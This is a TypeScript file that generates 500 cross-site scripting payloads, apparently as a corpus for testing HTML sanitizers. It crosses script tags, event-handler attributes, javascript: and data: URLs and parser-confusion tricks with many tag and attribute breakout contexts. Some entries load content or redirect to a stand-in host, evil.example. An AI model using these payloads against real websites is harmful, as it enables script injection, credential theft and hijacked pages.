/** Texts that would run a script where text is taken for markup: contexts × carriers, 500 of them. */

const run = "window.owned=1";

const carriers: readonly string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.owned=1</script>">`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<object data="data:text/html,<script>parent.owned=1</script>">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<img src=https://evil.example/x.png>`,
];

const contexts: readonly ((carrier: string) => string)[] = [
  (carrier) => carrier,
  (carrier) => `"${carrier}`,
  (carrier) => `'>${carrier}`,
  (carrier) => `">${carrier}`,
  (carrier) => `</script>${carrier}`,
  (carrier) => `</style>${carrier}`,
  (carrier) => `</title>${carrier}`,
  (carrier) => `</textarea></noscript>${carrier}`,
  (carrier) => `--></code></pre>${carrier}<!--`,
  (carrier) => `<!--<script>${carrier}`,
  (carrier) => `]]>${carrier}`,
  (carrier) => `\\"}]}</script>${carrier}`,
  (carrier) => `\u2028${carrier}\u2029`,
  (carrier) => `\u0000${carrier}`,
  (carrier) => `\${${run}}${carrier}`,
  (carrier) => `{{${run}}}${carrier}`,
  (carrier) => `\`${carrier}\``,
  (carrier) => `&lt;${carrier}&gt;`,
  (carrier) => `%3Cscript%3E${carrier}`,
  (carrier) => `" autofocus onfocus="${run}" x="${carrier}`,
  (carrier) => `' onmouseover='${run}' x='${carrier}`,
  (carrier) => ` style=animation-name:x onanimationstart=${run} ${carrier}`,
  (carrier) => `constructor.constructor("${run}")()${carrier}`,
  (carrier) => `__proto__${carrier}`,
  (carrier) => carrier.toUpperCase(),
];

export const payloads: readonly string[] = contexts.flatMap((context) => carriers.map(context));
